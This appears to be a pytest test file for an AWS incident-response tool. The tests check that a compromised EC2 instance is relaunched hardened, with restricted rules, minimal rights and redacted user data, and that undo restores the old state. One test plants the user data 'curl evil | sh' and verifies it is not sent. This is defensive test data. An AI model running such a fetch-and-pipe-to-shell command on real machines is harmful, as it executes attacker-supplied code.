"""relaunch-instance: which AMI, which rules, which rights, started once, and back in service."""

import base64
import json
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.cases import apply, effects, planned, with_template
from tests.conftest import HOME, Aws
from tests.emulated_aws import clients, dump
from tests.relaunch import CASE, launched, step
from vpce_tui.plans.actions.relaunch.new_security_group import too_wide
from vpce_tui.plans.actions.relaunch.return_to_service import VERIFY_RETURN
from vpce_tui.plans.plan import PlannedCall, Step, StepKind
from vpce_tui.plans.targets.barriers import SecurityGroupRule
from vpce_tui.plans.targets.replacement import UP, Replacement


def test_the_new_machine_is_hardened(aws: Aws) -> None:
    ec2 = clients(aws)("ec2")
    planned(aws, CASE)
    code, said = apply(aws, CASE)
    assert code == 0, said
    new = launched(aws)
    (old,) = ec2.describe_instances(InstanceIds=[aws.victim])["Reservations"][0]["Instances"]
    assert new["ImageId"] == aws.facts["image_newer"]
    assert new["MetadataOptions"]["HttpTokens"] == "required"
    assert new["MetadataOptions"]["HttpPutResponseHopLimit"] == 1
    assert "PublicIpAddress" not in new
    assert "KeyName" not in new
    assert new["Monitoring"]["State"] == "enabled"
    assert (new["InstanceType"], new["SubnetId"]) == (old["InstanceType"], old["SubnetId"])
    protected = ec2.describe_instance_attribute(InstanceId=new["InstanceId"], Attribute="disableApiTermination")
    assert protected["DisableApiTermination"]["Value"] is True
    disks = [mapping["Ebs"]["VolumeId"] for mapping in new["BlockDeviceMappings"]]
    assert {item["Encrypted"] for item in ec2.describe_volumes(VolumeIds=disks)["Volumes"]} == {True}
    tags = {tag["Key"]: tag["Value"] for tag in new["Tags"]}
    assert (tags["Name"], tags["team"], tags["env"]) == ("web-3", "storefront", "production")
    assert new["IamInstanceProfile"]["Arn"].endswith(f"/vpce-tui-relaunch-{aws.victim}")
    attached = clients(aws)("iam").list_attached_role_policies(RoleName=f"vpce-tui-relaunch-{aws.victim}")
    assert [item["PolicyName"] for item in attached["AttachedPolicies"]] == ["AmazonSSMManagedInstanceCore"]
    (group,) = ec2.describe_security_groups(GroupIds=[item["GroupId"] for item in new["SecurityGroups"]])[
        "SecurityGroups"
    ]
    assert [rule["IpProtocol"] for rule in group["IpPermissionsEgress"]] == ["tcp"]
    assert {rule["FromPort"] for rule in group["IpPermissions"]} == {443}, "SSH is ticked by a person or not at all"


def test_it_takes_the_old_ones_place(aws: Aws) -> None:
    planned(aws, CASE)
    code, said = apply(aws, CASE)
    assert code == 0, said
    new = launched(aws)["InstanceId"]
    (group,) = clients(aws)("autoscaling").describe_auto_scaling_groups()["AutoScalingGroups"]
    assert new in [item["InstanceId"] for item in group["Instances"]]
    assert "LaunchConfigurationName" not in group
    template = group["LaunchTemplate"]["LaunchTemplateId"]
    (version,) = clients(aws)("ec2").describe_launch_template_versions(LaunchTemplateId=template)[
        "LaunchTemplateVersions"
    ]
    data = version["LaunchTemplateData"]
    assert data["ImageId"] == aws.facts["image_newer"]
    assert data["MetadataOptions"]["HttpTokens"] == "required"
    health = clients(aws)("elbv2").describe_target_health(TargetGroupArn=aws.facts["target_group"])
    assert new in [item["Target"]["Id"] for item in health["TargetHealthDescriptions"]]


def test_user_data_is_copied_only_when_reviewed_and_stands_in_no_record(aws: Aws) -> None:
    ec2, secret = clients(aws)("ec2"), "correct-horse-battery-staple"
    planned(aws, CASE)
    code, said = apply(aws, CASE, "--step", "group", "--step", "profile", "--step", "launch")
    assert code == 1
    assert "“Review its user data” must be verified" in said
    code, said = apply(aws, CASE, "--step", "review", "--step", "launch")
    assert code == 0, said
    data = ec2.describe_instance_attribute(InstanceId=launched(aws)["InstanceId"], Attribute="userData")["UserData"]
    assert secret in base64.b64decode(data["Value"]).decode()
    files = [path for path in aws.incident().rglob("*") if path.is_file() and path.parent.name != "evidence"]
    assert files
    encoded = base64.b64encode(secret.encode()).decode()[4:20]
    for path in [*files, aws.folder / "plan.json", *aws.folder.glob("out-*")]:
        text = path.read_bytes()
        assert secret.encode() not in text, path
        assert encoded.encode() not in text, path


def test_without_a_word_no_user_data_is_copied(aws: Aws) -> None:
    path = str(aws.folder / "plan.json")
    code, said = aws.run("plan", "relaunch-instance", aws.victim, "--out", path)
    assert code == 0, said
    code, said = apply(aws, CASE)
    assert code == 0, said
    data = clients(aws)("ec2").describe_instance_attribute(InstanceId=launched(aws)["InstanceId"], Attribute="userData")
    assert not data["UserData"].get("Value")
    assert "the old instance had user data" in Path(path).read_text()


def test_the_evidence_is_shown_with_its_secrets_hidden(aws: Aws) -> None:
    planned(aws, CASE)
    assert apply(aws, CASE, "--step", "review")[0] == 0
    code, said = aws.run("evidence", "case", "user-data")
    assert code == 0, said
    assert "systemctl enable --now storefront" in said
    assert "correct-horse" not in said
    code, said = aws.run("evidence", "case", "user-data", "--raw")
    assert code == 0, said
    assert base64.b64encode(b"correct-horse")[:8].decode()[:6] in said or "UserData" in said
    code, said = aws.run("evidence", "case", "nothing")
    assert code == 1
    assert "has no such evidence" in said


def test_a_rule_open_to_the_world_on_an_administration_port_cannot_be_ticked(aws: Aws) -> None:
    ec2 = clients(aws)("ec2")
    wide = [{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
    rule = ec2.authorize_security_group_ingress(GroupId=aws.facts["group_web"], IpPermissions=wide)[
        "SecurityGroupRules"
    ][0]
    made = step(planned(aws, CASE), "group")
    why_not = {item["value"]: item.get("whyNot", "") for item in made["questions"][0]["options"]}
    assert "22 (SSH)" in why_not[rule["SecurityGroupRuleId"]]
    code, said = aws.run("plan", "relaunch-instance", aws.victim, "--set", f"group.rules={rule['SecurityGroupRuleId']}")
    assert code == 2
    assert rule["SecurityGroupRuleId"] in said


def test_a_policy_that_can_do_too_much_cannot_be_ticked(aws: Aws) -> None:
    made = step(planned(aws, CASE), "profile")
    why_not = {item["value"]: item.get("whyNot", "") for item in made["questions"][1]["options"]}
    assert why_not["inline/storefront-assets"] == ""
    assert why_not["inline/legacy-network"].startswith("it allows")
    code, said = aws.run("plan", "relaunch-instance", aws.victim, "--set", "profile.policies=inline/legacy-network")
    assert code == 2, said


def test_an_isolated_machine_is_replaced_by_what_it_had_before(aws: Aws) -> None:
    first = str(aws.folder / "first.json")
    assert aws.run("plan", "terminate-instance", aws.victim, "--out", first)[0] == 0
    steps = ("--step", "protect", "--step", "out-of-service", "--step", "isolate", "--step", "cut-credentials")
    code, said = aws.run("apply", first, "--incident", "case", "--yes", "--wait", "3", *steps)
    assert code == 0, said
    plan = planned(aws, CASE, "--incident", "case")
    rules = [change for change in step(plan, "group")["changes"] if change.startswith("+")]
    assert any("10.0.100.0/24" in rule for rule in rules), "the rules of the groups before the isolation"
    assert step(plan, "return")["choices"]["targets"] == "storefront-web:443"
    code, said = apply(aws, CASE)
    assert code == 0, said
    (group,) = clients(aws)("autoscaling").describe_auto_scaling_groups()["AutoScalingGroups"]
    members = [item["InstanceId"] for item in group["Instances"]]
    assert launched(aws)["InstanceId"] in members
    assert aws.victim not in members
    assert group["DesiredCapacity"] == 3


def test_a_group_with_a_launch_template_gets_a_new_version_of_it_and_undo_takes_it_back(aws: Aws) -> None:
    template = with_template(aws)
    before = dump(aws)
    planned(aws, CASE)
    code, said = apply(aws, CASE)
    assert code == 0, said
    assert effects(aws)["ec2:CreateLaunchTemplateVersion"] == 2, "the team's own, and ours"
    (group,) = clients(aws)("autoscaling").describe_auto_scaling_groups()["AutoScalingGroups"]
    assert group["LaunchTemplate"]["Version"] == "3"
    versions = clients(aws)("ec2").describe_launch_template_versions(LaunchTemplateId=template)[
        "LaunchTemplateVersions"
    ]
    data = next(item["LaunchTemplateData"] for item in versions if item["VersionNumber"] == 3)
    assert data["ImageId"] == aws.facts["image_newer"]
    assert "EbsOptimized" not in data
    assert "KeyName" not in data, "nothing of the version of before: an intruder may have written it"
    code, said = aws.run("undo", "--incident", "case", "--all", "--yes", "--wait", "3", "--confirm", aws.victim)
    assert code == 0, said
    assert dump(aws) == before


def test_an_image_gone_between_plan_and_run_leaves_everything_as_it_was(aws: Aws) -> None:
    planned(aws, CASE)
    assert apply(aws, CASE, "--step", "review", "--step", "group", "--step", "profile")[0] == 0
    before = dump(aws)
    clients(aws)("ec2").deregister_image(ImageId=aws.facts["image_newer"])
    code, said = apply(aws, CASE, "--step", "launch")
    assert code == 1
    assert aws.facts["image_newer"] in said
    assert "be launched any more" in said
    assert dump(aws) == before
    assert effects(aws)["ec2:RunInstances"] == 0


def test_a_rule_removed_by_somebody_else_meanwhile_is_said(aws: Aws) -> None:
    plan = planned(aws, CASE)
    ec2, web = clients(aws)("ec2"), aws.facts["group_web"]
    rules = ec2.describe_security_group_rules(Filters=[{"Name": "group-id", "Values": [web]}])["SecurityGroupRules"]
    gone = next(rule["SecurityGroupRuleId"] for rule in rules if not rule["IsEgress"])
    assert gone in step(plan, "group")["choices"]["rules"]
    ec2.revoke_security_group_ingress(GroupId=web, SecurityGroupRuleIds=[gone])
    code, said = apply(aws, CASE, "--step", "group")
    assert code != 0
    assert f"the rule {gone} is gone" in said or gone in said
    assert effects(aws) == {"ec2:RevokeSecurityGroupIngress": 1}, "somebody else's alone"


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        ("ami.ami=ubuntu", "is not an AMI id"),
        ("launch.subnet=here", "is not a valid id of a subnet"),
        ("launch.type=big", "is not a valid instance type"),
        ("launch.key=k", "is not a valid id, ARN or alias of a KMS key"),
        ("group.from=web", "is not a security group id"),
        ("return.targets=none:1", "targets must be one or more of"),
        ("launch.user_data=yes", "user_data must be one of none, copy"),
    ],
)
def test_an_answer_out_of_range_has_its_own_sentence(answer: str, said: str, aws: Aws) -> None:
    code, words = aws.run("plan", "relaunch-instance", aws.victim, "--set", answer)
    assert code == 2, words
    assert said in words


def test_a_full_group_is_said_before_anything_is_done(aws: Aws) -> None:
    clients(aws)("autoscaling").update_auto_scaling_group(AutoScalingGroupName="storefront-web", MaxSize=3)
    blocked = step(planned(aws, CASE), "return")["blocked"]
    assert [item["says"] for item in blocked] == [
        "Auto Scaling group storefront-web is at its maximum size (3); an instance cannot be attached."
    ]


def test_a_machine_whose_checks_fail_is_called_failed(aws: Aws) -> None:
    from vpce_tui.inventory.resources import Instance
    from vpce_tui.plans.targets.instance_state import InstanceState
    from vpce_tui.plans.targets.replacement import Replacement
    from vpce_tui.playbooks.library import load

    playbook_step = next(item for item in load("relaunch-instance").steps if item.id == "launch")
    plan = step(planned(aws, CASE), "launch")
    from vpce_tui.core.typed_data import convert
    from vpce_tui.plans.plan import Step

    filed = convert(plan, Step)
    old = Instance(id="i-1", region=HOME, account="1", state="running")
    for checks, proof in (
        ("running/ok/ok", "verified"),
        ("running/ok/impaired", "failed"),
        ("running/ok/initializing", "not yet"),
    ):
        new = Replacement(id="i-2", state="running", checks=checks, image="ami-1", protected=True)
        assert playbook_step.action.verify(InstanceState(old, replacement=new), filed)[0] == proof


def test_the_elastic_ip_moves_when_asked_and_comes_back(aws: Aws) -> None:
    ec2 = clients(aws)("ec2")
    allocated = ec2.allocate_address(Domain="vpc")["AllocationId"]
    ec2.associate_address(AllocationId=allocated, InstanceId=aws.victim)

    def holder() -> str:
        (found,) = ec2.describe_addresses(AllocationIds=[allocated])["Addresses"]
        (nic,) = ec2.describe_network_interfaces(NetworkInterfaceIds=[found["NetworkInterfaceId"]])["NetworkInterfaces"]
        return str(nic["Attachment"]["InstanceId"])

    before = holder()
    planned(aws, CASE, "--set", f"return.address={allocated}")
    code, said = apply(aws, CASE)
    assert code == 0, said
    assert holder() == launched(aws)["InstanceId"]
    code, said = aws.run("undo", "--incident", "case", "return", "--yes", "--wait", "3")
    assert code == 0, said
    assert holder() == before


def test_of_a_terminated_machine_aws_has_forgotten_the_place_and_the_step_says_what_helps() -> None:
    from vpce_tui.inventory.resources import Instance
    from vpce_tui.plans.step_builder import Draft
    from vpce_tui.plans.targets.instance_state import InstanceState
    from vpce_tui.plans.targets.launch import Settings
    from vpce_tui.plans.targets.planning_context import VpcGroups
    from vpce_tui.playbooks.library import load

    gone = InstanceState(
        Instance(id="i-1", region=HOME, account="1", state="terminated"),
        settings=Settings(None),
        groups=VpcGroups(),
        old_rules=(),
    )
    playbook_step = next(item for item in load("relaunch-instance").steps if item.id == "group")
    made = playbook_step.action.plan(
        gone, Draft(id="group", title="", description="", region=HOME, choices={"rules": "", "from": "", "name": ""})
    )
    assert [item.remedy for item in made.blocked] == [
        "name the subnet of the new instance: --set launch.subnet=subnet-…"
    ]


def test_a_role_of_that_name_that_somebody_made_before_is_a_trap_and_blocks(aws: Aws) -> None:
    iam, name = clients(aws)("iam"), f"vpce-tui-relaunch-{aws.victim}"
    trust = json.dumps(
        {"Statement": [{"Effect": "Allow", "Principal": {"AWS": "666666666666"}, "Action": "sts:AssumeRole"}]}
    )
    tags = [{"Key": "vpce-tui:call", "Value": "role"}, {"Key": "vpce-tui:target", "Value": aws.victim}]
    iam.create_role(RoleName=name, AssumeRolePolicyDocument=trust, Tags=tags)
    made = step(planned(aws, CASE), "profile")
    assert f"the role {name} already" in made["blocked"][0]["says"]
    assert made["calls"] == []


def test_user_data_that_was_replaced_after_the_review_is_not_sent(aws: Aws) -> None:
    planned(aws, CASE)
    code, said = apply(aws, CASE, "--step", "ami", "--step", "review", "--step", "group", "--step", "profile")
    assert code == 0, said
    ec2 = clients(aws)("ec2")
    ec2.stop_instances(InstanceIds=[aws.victim])
    ec2.modify_instance_attribute(InstanceId=aws.victim, UserData={"Value": base64.b64encode(b"curl evil | sh")})
    code, said = apply(aws, CASE, "--step", "launch")
    assert code != 0, said
    assert "ec2:RunInstances" in said
    assert "ec2:RunInstances" not in effects(aws)


@pytest.mark.parametrize("peer", ["0.0.0.0/0", "::/0", "0.0.0.0/1", "128.0.0.0/1", "::/1", "2000::/3"])
def test_half_of_the_world_is_the_world(peer: str) -> None:
    assert too_wide(
        SecurityGroupRule(id="sgr-1", group="sg-1", egress=False, protocol="tcp", from_port=22, to_port=22, peer=peer)
    )


def test_the_classic_load_balancer_of_the_old_one_sends_to_the_new_one_and_undo_takes_it_back(aws: Aws) -> None:
    elb = clients(aws)("elb")

    def members() -> list[str]:
        (found,) = elb.describe_load_balancers(LoadBalancerNames=["storefront-internal"])["LoadBalancerDescriptions"]
        return [item["InstanceId"] for item in found["Instances"]]

    assert aws.victim in members()
    assert step(planned(aws, CASE), "return")["choices"]["balancers"] == "storefront-internal"
    assert apply(aws, CASE)[0] == 0
    assert launched(aws)["InstanceId"] in members()
    code, said = aws.run("undo", "--incident", "case", "return", "--yes", "--wait", "3")
    assert code == 0, said
    assert launched(aws)["InstanceId"] not in members()


@pytest.mark.parametrize(
    ("state", "proof"), [("healthy", "verified"), ("initial", "not yet"), ("unhealthy", "not yet")]
)
def test_it_serves_only_once_its_target_group_says_so(state: str, proof: str) -> None:
    new = Replacement(
        id="i-2", state="running", checks=UP, image="ami-1", vpc_id="vpc-1", private_ip="10.0.0.9", protected=True
    )
    health = {"Target": {"Id": "i-2", "Port": 443}, "TargetHealth": {"State": state, "Reason": "Target.Timeout"}}
    other = {"Target": {"Id": "i-1", "Port": 443}, "TargetHealth": {"State": "unhealthy"}}
    asked = PlannedCall(
        id="health-1",
        service="elbv2",
        operation="DescribeTargetHealth",
        region=HOME,
        parameters={},
        why="health of the targets of web",
    )
    step, world = Step("verify", "", StepKind.READ, calls=(asked,)), SimpleNamespace(replacement=new, unknown={})
    assert VERIFY_RETURN.verify_answers
    found, said = VERIFY_RETURN.verify_answers(
        world, step, {"health-1": [{"TargetHealthDescriptions": [health, other]}]}
    )
    assert found == proof
    assert f"port 443: {state}" in said
    for unread in ({}, {"health-1": [{"TargetHealthDescriptions": [other]}]}):
        found, said = VERIFY_RETURN.verify_answers(world, step, unread)
        assert found == "not yet", "what did not answer is not healthy"
        assert "health of the targets of web: the new instance is not listed, or the health could not be read" in said


def test_a_policy_with_a_comma_in_its_name_is_one_answer() -> None:
    from types import SimpleNamespace

    from vpce_tui.plans.actions import parts
    from vpce_tui.plans.actions.relaunch.instance_profile import RELAUNCH_PROFILE
    from vpce_tui.plans.targets.launch import PolicyOf

    allow = {"Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]}
    policies = tuple(PolicyOf(name, "", allow) for name in ("x", "x,session-manager"))
    choice = next(choice for choice in RELAUNCH_PROFILE.choices if choice.id == "policies")
    options = choice.offered(SimpleNamespace(policies=policies))
    values = [option.value for option in options]
    assert [parts(value) for value in values] == [(value,) for value in values], "each value is one answer"
    assert all(choice.wrong_among(options, value) == "" for value in values)
